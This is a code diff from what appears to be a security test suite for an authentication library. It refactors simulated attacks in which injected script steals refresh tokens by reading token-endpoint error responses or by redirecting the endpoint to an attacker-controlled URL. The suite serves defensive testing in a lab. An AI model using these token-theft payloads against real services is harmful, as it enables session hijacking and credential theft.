@@ -1,4 +1,6 @@
-import { attack } from "../attack.js";
+import type { Fault } from "../../../dev-provider/src/endpoint-control.js";
+import { type Attack, attack } from "../attack.js";
+import type { Stage } from "../stage.js";
 
 export const apiEcho = attack({
   name: "reads the token from an API that echoes request headers",
@@ -52,54 +54,41 @@ export const apiHostileHeaders = attack({
   },
 });
 
-export const tokenEndpointErrorCode = attack({
-  name: "reads the error of a token endpoint whose error code is the refresh token",
-  threat: "single-execution theft",
-  target: "strongroom",
-  async payload(it) {
-    const answer = await fetch("/auth/refresh", { method: "POST" });
-    it.steal([...answer.headers], await answer.text());
-    it.steal(await (await fetch("/auth/session")).text());
-  },
-  async play(stage) {
-    const { testing } = stage.lab.authorizationServer;
-    await stage.openSignedIn();
-    const body = JSON.stringify({ error: testing.issued.refreshTokens.at(-1) });
-    testing.tokenEndpoint.fail({ status: 400, body }, Number.POSITIVE_INFINITY);
-    try {
-      await stage.inject();
-    } finally {
-      testing.tokenEndpoint.reset();
-    }
-  },
-});
+export const tokenEndpointErrorCode = tokenEndpointError(
+  "whose error code is the refresh token",
+  (error) => ({
+    error,
+  }),
+);
 
-export const tokenEndpointErrorText = attack({
-  name: "reads the error of a token endpoint whose error text has the refresh token",
-  threat: "single-execution theft",
-  target: "strongroom",
-  async payload(it) {
-    const answer = await fetch("/auth/refresh", { method: "POST" });
-    it.steal([...answer.headers], await answer.text());
-    it.steal(await (await fetch("/auth/session")).text());
-  },
-  async play(stage) {
-    const { testing } = stage.lab.authorizationServer;
-    await stage.openSignedIn();
-    const refreshToken = testing.issued.refreshTokens.at(-1);
-    const error = {
-      error: "temporarily_unavailable",
-      error_description: `cannot use ${refreshToken} now`,
-      error_uri: refreshToken,
-    };
-    testing.tokenEndpoint.fail({ status: 400, body: JSON.stringify(error) }, Number.POSITIVE_INFINITY);
-    try {
-      await stage.inject();
-    } finally {
-      testing.tokenEndpoint.reset();
-    }
-  },
-});
+export const tokenEndpointErrorText = tokenEndpointError(
+  "whose error text has the refresh token",
+  (refreshToken) => ({
+    error: "temporarily_unavailable",
+    error_description: `cannot use ${refreshToken} now`,
+    error_uri: refreshToken,
+  }),
+);
+
+function tokenEndpointError(how: string, errorWith: (refreshToken: string | undefined) => object): Attack {
+  return attack({
+    name: `reads the error of a token endpoint ${how}`,
+    threat: "single-execution theft",
+    target: "strongroom",
+    async payload(it) {
+      const answer = await fetch("/auth/refresh", { method: "POST" });
+      it.steal([...answer.headers], await answer.text());
+      it.steal(await (await fetch("/auth/session")).text());
+    },
+    async play(stage) {
+      await stage.openSignedIn();
+      const body = JSON.stringify(
+        errorWith(stage.lab.authorizationServer.testing.issued.refreshTokens.at(-1)),
+      );
+      await injectWithFault(stage, { status: 400, body });
+    },
+  });
+}
 
 export const tokenEndpointRedirect = attack({
   name: "uses a redirect of the token endpoint to its own server",
@@ -109,17 +98,22 @@ export const tokenEndpointRedirect = attack({
     await fetch("/auth/refresh", { method: "POST" });
   },
   async play(stage) {
-    const { testing } = stage.lab.authorizationServer;
     const location = `${stage.facts.attackerUrl}${stage.attackerPath}/token`;
     await stage.openSignedIn();
-    testing.tokenEndpoint.fail({ status: 307, headers: { location } }, Number.POSITIVE_INFINITY);
-    try {
-      await stage.inject();
-    } finally {
-      testing.tokenEndpoint.reset();
-    }
+    await injectWithFault(stage, { status: 307, headers: { location } });
   },
 });
+
+/** Injects the payload while the token endpoint answers with this fault. */
+async function injectWithFault(stage: Stage, fault: Fault): Promise<void> {
+  const { tokenEndpoint } = stage.lab.authorizationServer.testing;
+  tokenEndpoint.fail(fault, Number.POSITIVE_INFINITY);
+  try {
+    await stage.inject();
+  } finally {
+    tokenEndpoint.reset();
+  }
+}
 
 export const hostileAuthorizationResponses = attack({
   name: "opens the callback with forged authorization responses",
